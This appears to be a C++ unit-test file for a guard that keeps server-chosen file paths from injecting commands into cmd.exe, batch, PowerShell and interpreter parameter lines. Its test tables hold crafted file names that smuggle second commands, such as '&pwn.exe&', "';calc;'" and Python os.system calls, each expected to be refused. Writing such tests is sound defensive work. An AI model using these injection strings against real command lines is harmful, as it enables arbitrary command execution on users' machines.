// What a path chosen by the server may bring into a parameter line, for programs and batch files.
#include <gtest/gtest.h>

#include "config/RegistryValues.h"
#include "config/TweakInfo.h"
#include "platform/memory/MemoryFileSystem.h"
#include "platform/memory/MemoryRegistry.h"
#include "platform/memory/MemoryShortcutReader.h"
#include "runner/ParameterLine.h"
#include "runner/ProgramKind.h"
#include "runner/TweakDecision.h"
#include "tests/common/InstallProgram.h"
#include "tests/common/StandIns.h"

namespace {

using R = PathRefusal;

TEST(ClassifyProgram, BatchFilesAsTheShellSeesThem) {
    struct Row {
        const char* exe;
        ProgramKind kind;
    } rows[] = {
        {"C:\\Tools\\run.bat", ProgramKind::Batch},
        {"C:\\Tools\\RUN.CMD", ProgramKind::Batch},
        {"C:\\Tools\\run.Bat. . ", ProgramKind::Batch},
        {"\"C:\\Tools\\run.cmd\"", ProgramKind::Batch},
        {"C:\\Windows\\System32\\CMD.exe", ProgramKind::Cmd},
        {"cmd.exe", ProgramKind::Cmd},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe", ProgramKind::PowerShell},
        {"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\"", ProgramKind::Pwsh},
        {"C:\\Python\\python.exe", ProgramKind::CodeInterpreter},
        {"C:\\Windows\\System32\\mshta.exe", ProgramKind::CodeInterpreter},
        {"C:\\Python312\\python3.12.exe", ProgramKind::CodeInterpreter},
        {"C:\\Perl\\bin\\perl5.36.0.exe", ProgramKind::CodeInterpreter},
        // Every name of a family, the last of its list too.
        {"C:\\Perl\\bin\\wperl.exe", ProgramKind::CodeInterpreter},
        {"C:\\Ruby\\bin\\rubyw.exe", ProgramKind::CodeInterpreter},
        {"C:\\php\\php-cgi.exe", ProgramKind::CodeInterpreter},
        {"C:\\Tools\\nircmdc.exe", ProgramKind::CodeInterpreter},
        {"C:\\Tools\\rundll32.exe", ProgramKind::CodeInterpreter},
        {"C:\\cwRsync\\rsync.exe", ProgramKind::CodeInterpreter},
        {"C:\\Python313\\python3.13t.exe", ProgramKind::CodeInterpreter},
        {"C:\\Python\\python_d.exe", ProgramKind::CodeInterpreter},
        {"C:\\Tools\\cmd2.exe", ProgramKind::Program},
        {"C:\\Windows\\System32\\wsl.exe", ProgramKind::CodeInterpreter},
        {"C:\\Tools\\run", ProgramKind::Unseen},
        {"C:\\Tools\\run.lnk", ProgramKind::Unseen},
        {"C:\\Tools\\RUN.PIF", ProgramKind::Unseen},
        {"C:\\Tools\\run.exe", ProgramKind::Program},
        {"C:\\Tools.bat\\run.exe", ProgramKind::Program},
        {"C:\\Tools\\run.bat.exe", ProgramKind::Program},
        {"C:\\Tools\\mycmd.exe", ProgramKind::Program},
        {"C:\\Tools\\hash.vbs", ProgramKind::Program},
        {"C:\\Tools\\run.batx", ProgramKind::Program},
    };
    for (const Row& row : rows) EXPECT_EQ(row.kind, ClassifyProgram(row.exe)) << row.exe;
}

TEST(PathGuard, RefusesWhatWouldChangeTheArgumentsAndLetsTheRestThrough) {
    const char* const program = "C:\\Tools\\record.exe";
    const char* const batch = "C:\\Tools\\record.bat";
    const char* const quoted = "\"%LOCAL_FILE_PATH%\"";
    const char* const bare = "%LOCAL_FILE_PATH%";
    const char* const cmd = "C:\\Windows\\System32\\cmd.exe";
    const char* const ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    const char* const pwsh = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
    const std::string redirected =
        std::string("/c C:\\x.exe \"%LOCAL_FILE_PATH%\" D:\\A\\>nul&") + ps + " -c Unblock-File \"%LOCAL_FILE_PATH%\"";
    const char* const python = "C:\\Python\\python.exe";
    const char* const perl = "C:\\Perl\\perl.exe";
    // Tool.lnk cannot be read; the others start what they are put in for.
    const char* const shortcut = "C:\\Links\\Tool.lnk";
    const char* const editorLink = "C:\\Links\\Editor.lnk";
    const char* const cmdLink = "C:\\Links\\Cmd.lnk";
    const char* const psLink = "C:\\Links\\Hash.LNK. ";
    const char* const batchLink = "C:\\Links\\Record.lnk";
    const char* const pythonLink = "C:\\Links\\Python.lnk";
    const char* const nestedLink = "C:\\Links\\Nested.lnk";
    MemoryShortcutReader shortcuts;
    shortcuts.Put(editorLink, {"C:\\Tools\\Editor.exe", ""});
    shortcuts.Put(cmdLink, {cmd, "/c C:\\Tools\\x.bat"});
    shortcuts.Put(psLink, {ps, "-NoProfile"});
    shortcuts.Put(batchLink, {batch, ""});
    shortcuts.Put(pythonLink, {python, "-c"});
    shortcuts.Put(nestedLink, {editorLink, ""});
    StandIns standIns{shortcuts};
    struct Row {
        const char* exe;
        const char* parameters;
        const char* local;
        const char* remote;
        R refusal;
    } rows[] = {
        // Programs: only a double quote, or backslashes that meet one, change the split.
        {program, quoted, "C:\\in\\Q&A (1), it's 100% \xfc;x! [2]^.txt", "/r", R::None},
        {program, bare, "C:\\in\\Q&A (1), it's 100% \xfc;x! [2]^.txt", "/r", R::None},
        {program, bare, "C:\\in\\a&b|c.txt", "/r", R::None},
        {program, "\"%REMOTE_FILE_PATH%\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\b c.txt", "/pub/a\\b.txt", R::None},
        {program, "\"%REMOTE_FILE_PATH%\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\b c.txt", "/pub/dir\\", R::BackslashBeforeQuote},
        {program, "\"%REMOTE_FILE_PATH%\\\"", "C:\\a", "/pub/dir\\", R::BackslashBeforeQuote},
        // Quotes put around an unquoted path come after its backslashes doubled; after a line's
        // backslash or quote they cannot be put.
        {program, "-o %REMOTE_FILE_PATH% x", "C:\\a", "/pub/my dir\\", R::None},
        {program, "-o \"x\"%REMOTE_FILE_PATH%", "C:\\a", "/pub/my dir", R::BlankUnquoted},
        {program, "-o \\%REMOTE_FILE_PATH%", "C:\\a", "/pub/my dir", R::BlankUnquoted},
        {program, "\"%LOCAL_FILE_PATH%%REMOTE_FILE_PATH%\"", "C:\\a\\", "", R::BackslashBeforeQuote},
        {program, "\\%REMOTE_FILE_PATH%\"x\"", "C:\\a", "", R::BackslashBeforeQuote},
        {program, "%REMOTE_FILE_PATH%\\\"x\"", "C:\\a", "", R::None},
        {program, "%REMOTE_FILE_PATH% \"x\"", "C:\\a", "/pub/dir\\", R::None},
        {program, bare, "C:\\a", "/pub/dir\\", R::None},
        {program, "\"%REMOTE_FILE_PATH%\"", "C:\\a", "", R::None},
        {program, "\"\"%REMOTE_FILE_PATH%\"", "C:\\a", "", R::EmptyBetweenQuotes},
        {program, quoted, "C:\\a\"b", "/r", R::Quote},
        {program, "%REMOTE_FILE_PATH%", "C:\\a", "/pub/\" --flag", R::Quote},
        {program, bare, "C:\\%REMOTE_FILE_PATH%", "/pub/\"x", R::Quote},
        {program, "\"%LOCAL_FILE_PATH%\" x", "C:\\a\\", "/r", R::BackslashBeforeQuote},
        // Batch files: cmd.exe reads the line first.
        {batch, quoted, "C:\\in\\Q&A (1).txt", "/r", R::None},
        {batch, "\"%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a\\b.txt", R::None},
        // A batch file's %* hands its line to a program, which reads it by the C runtime's rules.
        {batch, "\"%REMOTE_FILE_PATH%\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\x -delete.txt", "/pub/dir\\", R::BackslashBeforeQuote},
        {batch, bare, "C:\\in\\a b.txt", "/r", R::None},
        {batch, bare, "a&C:\\Tools\\other.exe&rem.txt", "/r", R::None},
        // A blank puts the path in quotes, where cmd.exe's operators are plain characters.
        {batch, bare, "a&C:\\Tools\\other.exe INJECTED&rem .txt", "/r", R::None},
        {batch, "%REMOTE_FILE_PATH%", "C:\\a", "/pub/a|b.txt", R::None},
        {batch, bare, "C:\\in\\(1).txt", "/r", R::None},
        {batch, bare, "C:\\in\\a^b.txt", "/r", R::None},
        {batch, quoted, "C:\\in\\%WINDIR%.txt", "/r", R::Percent},
        {batch, quoted, "C:\\in\\%CMDCMDLINE:~-1%.txt", "/r", R::Percent},
        {batch, quoted, "C:\\in\\%PATH:a=b%.txt", "/r", R::Percent},
        // A line's only % stays literal; two may pair into a variable.
        {batch, quoted, "C:\\in\\100% sure.txt", "/r", R::None},
        {batch, "\"%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a%20b.txt", R::None},
        {batch, "\"%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a%20b%20c.txt", R::Percent},
        {batch, "\"%LOCAL_FILE_PATH%\" \"%REMOTE_FILE_PATH%\"", "C:\\in\\100% sure.txt", "/pub/a%b", R::Percent},
        {batch, "\"%LOCAL_FILE_PATH%\" %%1", "C:\\in\\100% sure.txt", "/r", R::Percent},
        {batch, quoted, "C:\\in\\!PATH!.txt", "/r", R::Exclamation},
        {batch, quoted, "C:\\in\\a\nb.txt", "/r", R::ControlCharacter},
        {batch, quoted, "C:\\in\\a\rb.txt", "/r", R::ControlCharacter},
        {batch, bare, "C:\\in\\a;b.txt", "/r", R::None},
        {batch, bare, "C:\\in\\a=b,c.txt", "/r", R::None},
        {batch, bare, "C:\\in\\a=b.txt", "/r", R::None},
        {batch, bare, "C:\\in\\a\xff" "b.txt", "/r", R::Delimiter},
        {batch, quoted, "C:\\in\\a;b=c,d.txt", "/r", R::None},
        {batch, "\"x\" %LOCAL_FILE_PATH%", "C:\\in\\a&b.txt", "/r", R::None},
        {batch, "^\"%LOCAL_FILE_PATH%", "C:\\in\\a&b.txt", "/r", R::ShellOperator},
        {batch, quoted, "C:\\in\\a\"&calc&\".txt", "/r", R::Quote},
        // cmd.exe strips the outer quotes of the command after /c or /k, unless a narrow exception
        // holds that depends on a file's existence: both readings must be safe.
        {cmd, "/c \"%LOCAL_FILE_PATH%\"", "C:\\in\\%PATH%", "/r", R::Percent},
        {cmd, "/c \"%LOCAL_FILE_PATH%\"", "a&C:\\t\\pwn.exe&rem.txt", "/r", R::ShellOperator},
        // The path as the command: the server's file would run as whatever its name says.
        {cmd, "/c \"%LOCAL_FILE_PATH%\"", "a&C:\\t\\pwn.exe INJECTED&rem .txt", "/r", R::CommandName},
        {cmd, "/C \"%LOCAL_FILE_PATH%\"", "C:\\in\\a(1).txt", "/r", R::ShellOperator},
        {cmd, "/k \"%LOCAL_FILE_PATH%\"", "C:\\in\\a;b.txt", "/r", R::CommandName},
        {cmd, "/c start \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
        {cmd, "/c start /b \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
        {cmd, "/c start /d \"%LOCAL_FILE_PATH%\\..\" C:\\x.exe", "C:\\in\\a.txt", "/r", R::CmdSwitch},
        {cmd, "/c start \"\" \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::CommandName},
        {cmd, "/c start /machine amd64 \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
        {cmd, "/c start /node 1 \"Title\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
        // if runs its command, for hands its set to the command: each judged as what it starts.
        {cmd, "/c if exist \"%LOCAL_FILE_PATH%\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
        {cmd, "/c if exist \"%LOCAL_FILE_PATH%\"(\"%LOCAL_FILE_PATH%\")", "C:\\in\\run.hta", "/r", R::CommandName},
        {cmd, "/c if /i not \"%LOCAL_FILE_PATH%\"==\"x\" (echo a) else (\"%LOCAL_FILE_PATH%\")", "C:\\in\\a.hta", "/r",
         R::CommandName},
        {cmd, "/c if exist \"%LOCAL_FILE_PATH%\" C:\\Tools\\x.exe \"%LOCAL_FILE_PATH%\"", "C:\\in\\a b.txt", "/r", R::None},
        {cmd, "/c if 1 EQU 1 (python -c x(%LOCAL_FILE_PATH%))", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {cmd, "/c for %f in (\"%LOCAL_FILE_PATH%\") do %f", "C:\\in\\run.hta", "/r", R::CommandName},
        {cmd, "/c for/f \"delims=\" %l in (\"%LOCAL_FILE_PATH%\") do echo %l", "C:\\in\\a.txt", "/r", R::CommandName},
        {cmd, "/c for %f in (a b) do C:\\Tools\\x.exe %f \"%LOCAL_FILE_PATH%\"", "C:\\in\\a b.txt", "/r", R::None},
        // cmd.exe takes the first and the last quote: the quotes the path would get are gone.
        {cmd, "/c \"C:\\Tools\\7z.exe\" a D:\\b.7z %LOCAL_FILE_PATH%", "C:\\in\\x -pSECRET y.txt", "/r", R::BlankUnquoted},
        {cmd, "/c \"C:\\x.bat\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\a&b.txt", "/r", R::ShellOperator},
        {cmd, "/c \"C:\\x.bat\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\Q(1).txt", "/r", R::ShellOperator},
        {cmd, "/c \"\"C:\\x.bat\" \"%LOCAL_FILE_PATH%\"\"", "C:\\in\\Q&A (1).txt", "/r", R::None},
        {cmd, "/d /s /c \"\"C:\\x.bat\" \"%LOCAL_FILE_PATH%\"\"", "C:\\in\\Q&A (1).txt", "/r", R::None},
        {cmd, "/s /c \"C:\\x.bat \"%LOCAL_FILE_PATH%\"\"", "C:\\in\\a b.txt", "/r", R::None},
        {cmd, "/c C:\\x.bat \"%LOCAL_FILE_PATH%\"", "C:\\in\\Q&A (1).txt", "/r", R::None},
        {cmd, "\"%LOCAL_FILE_PATH%\" /c echo", "C:\\in\\a.txt", "/r", R::CmdSwitch},
        {cmd, "/q %LOCAL_FILE_PATH%", "C:\\in\\x /c calc", "/r", R::CmdSwitch},
        {cmd, "/r \"%LOCAL_FILE_PATH%\"", "a&C:\\t\\pwn.exe&rem.txt", "/r", R::ShellOperator},
        // Whatever the line, cmd.exe expands the TREVANEL_ variables before it parses: a quote or
        // a line break would leave the quotes around them. Programs read them as plain strings.
        {batch, "\"%TREVANEL_REMOTE_FILE_PATH%\"", "C:\\a", "/pub/x\" & calc & rem \"", R::BlankUnquoted},
        {"C:\\Tools\\run", "", "C:\\a", "/pub/a\nb", R::BatchVariable},
        {batch, "", "C:\\a", "/pub/x\" & calc & rem \"", R::BatchVariable},
        {cmd, "/c \"\"C:\\x.bat\" \"%LOCAL_FILE_PATH%\"\"", "C:\\in\\a.txt", "/pub/a\rb", R::BatchVariable},
        {batch, quoted, "C:\\in\\a.txt", "/pub/it's 100% ^!&.txt", R::None},
        {program, "", "C:\\a", "/pub/x\" & calc & rem \"", R::None},
        // PowerShell: the code after -Command (or the first argument that is no parameter, for
        // powershell.exe) by PowerShell's quoting; after -File and the script, strings.
        {ps, "-Command \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\Q (1) & more.txt", "/r", R::None},
        {ps, "-Command \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\a';pwn.exe;'.txt", "/r", R::ScriptQuote},
        {ps, "-c \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\a\x92;pwn.exe;.txt", "/r", R::ScriptQuote},
        {ps, "-c \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\a\x91;pwn.exe;.txt", "/r", R::ScriptQuote},
        {ps, "-Command \"Write-Output '%LOCAL_FILE_PATH%'\"", "C:\\a\nRemove-Item C:\\x", "/r", R::ControlCharacter},
        {ps, "-NoProfile \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\a\x82" "b.txt", "/r", R::ScriptQuote},
        {ps, "-Command \"Write-Output \\\"%LOCAL_FILE_PATH%\\\"\"", "C:\\in\\$(calc).txt", "/r", R::ScriptExpansion},
        {ps, "-Command \"Write-Output \\\"%LOCAL_FILE_PATH%\\\"\"", "C:\\in\\a`b.txt", "/r", R::ScriptExpansion},
        {ps, "-Command \"Write-Output \\\"%LOCAL_FILE_PATH%\\\"\"", "C:\\in\\it's (1).txt", "/r", R::None},
        {ps, "-Command Get-FileHash %LOCAL_FILE_PATH%", "C:\\in\\report-2.txt", "/r", R::None},
        {ps, "-Command Get-FileHash %LOCAL_FILE_PATH%", "C:\\in\\a b.txt", "/r", R::ScriptUnquoted},
        {ps, "-Command Get-FileHash x %LOCAL_FILE_PATH%", "-Algorithm", "/r", R::ScriptUnquoted},
        {ps, "-EncodedCommand ZQBjAGgAbwA= \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::EncodedCommand},
        {ps, "-ec ZQBjAGgAbwA= \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::EncodedCommand},
        {ps, "-ExecutionPolicy \"%LOCAL_FILE_PATH%\" -File C:\\s.ps1", "C:\\in\\a.txt", "/r", R::ScriptParameter},
        {ps, "%LOCAL_FILE_PATH% -File C:\\s.ps1", "-Command", "/r", R::ScriptParameter},
        {ps, "-File C:\\s.ps1 \"%LOCAL_FILE_PATH%\"", "C:\\in\\a';pwn.exe;'$x`.txt", "/r", R::None},
        {pwsh, "C:\\s.ps1 \"%LOCAL_FILE_PATH%\"", "C:\\in\\a';pwn.exe;'.txt", "/r", R::None},
        {pwsh, "-wd C:\\ -c \"Get-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\a';pwn.exe;'.txt", "/r", R::ScriptQuote},
        // Interpreters that run an argument as code: no path inside it.
        {"C:\\Python\\python.exe", "-c \"print(r'%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\node\\node.exe", "--eval=\"x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Python\\python.exe", "-c \"import sys; print(sys.argv[1])\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\a';b.txt", "/r", R::None},
        // ... also in a cluster of option letters or attached, and only before the script.
        {python, "-Ic \"print(r'%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {python, "\"-cprint(r'%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Python\\py.exe", "-3.11 -Bc \"x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {python, "C:\\s.py -c \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::None},
        {python, "-m tool -W ignore \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::None},
        {python, "-m tool -c \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::None},
        {python, "-m -c \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {python, "-Wc \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::None},
        {perl, "-ne \"print if /%LOCAL_FILE_PATH%/\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {perl, "-l0ne \"print '%LOCAL_FILE_PATH%'\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {perl, "-i -E \"say '%LOCAL_FILE_PATH%'\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {perl, "-w -e \"print 1\" -e \"'%LOCAL_FILE_PATH%'\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {perl, "-i.bak -p C:\\s.pl \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::None},
        {"C:\\Git\\bin\\bash.exe", "-ec \"cat '%LOCAL_FILE_PATH%'\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Git\\bin\\sh.exe", "-c -x \"cat '%LOCAL_FILE_PATH%'\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Git\\bin\\bash.exe", "-o pipefail -c \"cat \\\"$1\\\"\" x \"%LOCAL_FILE_PATH%\"", "C:\\in\\a';b.txt", "/r", R::None},
        {"C:\\Git\\bin\\bash.exe", "C:\\s.sh -c \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::None},
        {"C:\\node\\node.exe", "-pe \"x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\node\\node.exe", "--no-warnings -e \"x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\node\\node.exe", "--eval \"x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Ruby\\bin\\ruby.exe", "-ne \"puts '%LOCAL_FILE_PATH%'\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\php\\php.exe", "\"-rx('%LOCAL_FILE_PATH%');\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\php\\php.exe", "-R \"x('%LOCAL_FILE_PATH%');\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        // A shortcut may start any of them: every kind's rules at once. To PowerShell a path as
        // the line's first word is a statement, which runs the file.
        {shortcut, quoted, "C:\\in\\report-2.txt", "/r", R::CommandName},
        {shortcut, "scan \"%LOCAL_FILE_PATH%\"", "C:\\in\\report-2.txt", "/r", R::None},
        {shortcut, "scan \"%LOCAL_FILE_PATH%\"", "C:\\in\\a b.txt", "/r", R::ScriptUnquoted},
        {shortcut, "scan \"%LOCAL_FILE_PATH%\"", "C:\\in\\100%.txt", "/r", R::ScriptUnquoted},
        {shortcut, "-c \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::CommandName},
        {shortcut, "/c \"%LOCAL_FILE_PATH%\"", "C:\\in\\a&b.txt", "/r", R::ShellOperator},
        {"C:\\Tools\\run.pif", "-File C:\\s.ps1 \"%LOCAL_FILE_PATH%\"", "C:\\in\\it's.txt", "/r", R::None},
        // A shortcut that can be read is judged as its target, with the line alone and after the
        // shortcut's own arguments; one leading to another shortcut keeps every kind's rules.
        {editorLink, quoted, "C:\\in\\Quarter 3 report.txt", "/r", R::None},
        {editorLink, quoted, "C:\\in\\O'Brien.txt", "/r", R::None},
        {editorLink, quoted, "C:\\in\\M\xfcller.txt", "/r", R::None},
        {nestedLink, "scan \"%LOCAL_FILE_PATH%\"", "C:\\in\\Quarter 3 report.txt", "/r", R::ScriptUnquoted},
        {cmdLink, bare, "C:\\in\\a&calc&b.txt", "/r", R::ShellOperator},
        {cmdLink, quoted, "C:\\in\\a b.txt", "/r", R::None},
        {psLink, "-Command \"Get-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\x';calc;'.txt", "/r", R::ScriptQuote},
        {batchLink, bare, "C:\\in\\a&calc&b.txt", "/r", R::None},
        {batchLink, quoted, "C:\\in\\Quarter 3 report.txt", "/r", R::None},
        {pythonLink, quoted, "C:\\in\\a.txt", "/r", R::InterpreterCode},
        // A remote path begins with "/": for a shortcut no "/C" of it is a switch of cmd.exe.
        {shortcut, "scan \"%LOCAL_FILE_PATH%\" \"%REMOTE_FILE_PATH%\"", "C:\\in\\a.txt", "/Customers/x.txt", R::None},
        // Interpreters under the names installers give them, and those whose whole argument is code.
        {"C:\\Python312\\python3.12.exe", "-c \"x(r'%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Windows\\System32\\wsl.exe", "wc \"$(wslpath '%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Windows\\System32\\mshta.exe", "\"javascript:x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Windows\\System32\\mshta.exe", "C:\\s\\show.hta \"%LOCAL_FILE_PATH%\"", "C:\\in\\a b.txt", "/r", R::None},
        {"C:\\Windows\\System32\\mshta.exe", "\"about:<script>x('%LOCAL_FILE_PATH%')</script>\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Windows\\System32\\mshta.exe", "\"javascript:f()\" \"%REMOTE_FILE_PATH%\"", "C:\\in\\a.txt", "/x;alert(1)", R::InterpreterCode},
        {shortcut, "scan \"ftp://host%REMOTE_FILE_PATH%\"", "C:\\in\\a.txt", "/pub/a.txt", R::None},
        // The user's own text is judged only around the paths.
        {batch, "%LOCAL_FILE_PATH% & echo done ^| %%1", "C:\\in\\a.txt", "/r", R::None},
        // The shape of the argument a path stands in refuses for every program alike: a quote of
        // any kind or one of $ ; & | < > ^ % ! { } beside it. Blanks, ( ) and \ / : = , . are a path's.
        {program, "-e \"x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::CodeShape},
        {program, "-Command \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\a.txt", "/r", R::CodeShape},
        {program, "\"x \x93%LOCAL_FILE_PATH%\x94\"", "C:\\in\\a.txt", "/r", R::CodeShape},
        {program, "--x={%LOCAL_FILE_PATH%}", "C:\\in\\a.txt", "/r", R::CodeShape},
        {program, "\"D:\\My Backups (old)\\%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a b.txt", R::None},
        {program, "--out=%LOCAL_FILE_PATH%,x:y", "C:\\in\\a b.txt", "/r", R::None},
        // cmd.exe: each command it starts is judged as that program, down through cmd /c, start
        // and call; %TREVANEL_..._FILE_PATH% in the line stands for the path.
        {cmd, "/c python -c \"print(open(r'%LOCAL_FILE_PATH%').read())\" >> C:\\hashes.txt",
         "C:\\in\\x',__import__('os').system('calc'),'.txt", "/r", R::InterpreterCode},
        {cmd, "/c powershell -Command \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\x';calc;'.txt", "/r", R::ScriptQuote},
        {cmd, "/c powershell -Command \"Get-FileHash '%LOCAL_FILE_PATH%'\"", "C:\\in\\Q (1).txt", "/r", R::None},
        {cmd, "/c \"C:\\x.bat\" %TREVANEL_LOCAL_FILE_PATH%", "C:\\in\\a&calc&b.txt", "/r", R::ShellOperator},
        {cmd, "/c python -c \"print(r'%trevanel_local_file_path%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {cmd, "/c cmd /c python -c \"x(r'%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {cmd, "/c cmd /s /c \"\"%LOCAL_FILE_PATH%\"\"", "C:\\in\\x.bat", "/r", R::CommandName},
        {cmd, "/c start \"\" /wait python -c x(%LOCAL_FILE_PATH%)", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {cmd, "/c call C:\\R\\tool.exe -e \"x('%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::CodeShape},
        {cmd, "/c (echo x) & type \"%LOCAL_FILE_PATH%\" | find \"x\" > nul 2>&1", "C:\\in\\a b.txt", "/r", R::None},
        {cmd, "/c \"\"C:\\Tools\\log.exe\" \"%REMOTE_FILE_PATH%\" \"%LOCAL_FILE_PATH%\"\"", "C:\\in\\x -delete.txt",
         "/pub/dir\\", R::BackslashBeforeQuote},
        {cmd, "/c C:\\Tools\\x.exe \"%LOCAL_FILE_PATH%\"", "C:\\in\\a,b.txt", "/r", R::None},
        {cmd, "/c copy %LOCAL_FILE_PATH% C:\\out", "C:\\in\\a,b.txt", "/r", R::Delimiter},
        // Programs that hand their line to a shell elsewhere, and more interpreters' code.
        {"C:\\Windows\\System32\\OpenSSH\\ssh.exe", "backup@nas cp %REMOTE_FILE_PATH% /a/", "C:\\a", "/pub/a.txt", R::InterpreterCode},
        {"C:\\Windows\\System32\\wsl.exe", "-e cat %LOCAL_FILE_PATH%", "C:\\in\\a.txt", "/r", R::None},
        {"C:\\R\\bin\\Rscript.exe", "-e x(%LOCAL_FILE_PATH%)", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\pypy\\pypy3.exe", "-c x(%LOCAL_FILE_PATH%)", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\msys\\zsh.exe", "-c \"cat %LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\bb\\busybox.exe", "sh -c \"cat %LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Perl\\bin\\perl.exe", "-MFoo=%LOCAL_FILE_PATH% C:\\s.pl", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        {"C:\\Windows\\System32\\conhost.exe", "cmd.exe /c type %LOCAL_FILE_PATH%", "C:\\in\\a.txt", "/r", R::InterpreterCode},
        // Around a path, only what paths and options hold: anything else may open code somewhere.
        {"C:\\Lua\\lua.exe", "-e f=[[%LOCAL_FILE_PATH%]] C:\\s.lua", "C:\\in\\a.txt", "/r", R::CodeShape},
        {program, "f=[=[%LOCAL_FILE_PATH%]=]", "C:\\in\\a.txt", "/r", R::CodeShape},
        {program, "f=[%LOCAL_FILE_PATH%]", "C:\\in\\a.txt", "/r", R::CodeShape},
        {program, "-o \"D:\\Archive [2025]\\%REMOTE_FILE_PATH%\"", "C:\\a", "/pub/a b.txt", R::None},
        {program, "--data-binary @%LOCAL_FILE_PATH% -o D:\\M\xfcller\\%REMOTE_FILE_PATH%.bak", "C:\\in\\a b.txt", "/pub/a", R::None},
        // PowerShell's parameter names as it reads them; $( ) in a string is code; [ ] a wildcard.
        {pwsh, "--command \"Get-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\x';calc;'.txt", "/r", R::ScriptQuote},
        // -CommandWithArgs hands the path to the code as a string, which the code may start.
        {pwsh, "-cwa \"Get-FileHash -LiteralPath $args[0]\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\it's [1] & more.txt", "/r", R::None},
        {ps, "-c \"$o='D:\\o.txt'; Set-Content -Encoding ascii $o (Get-Content '%LOCAL_FILE_PATH%')\"", "C:\\in\\a.txt", "/r", R::None},
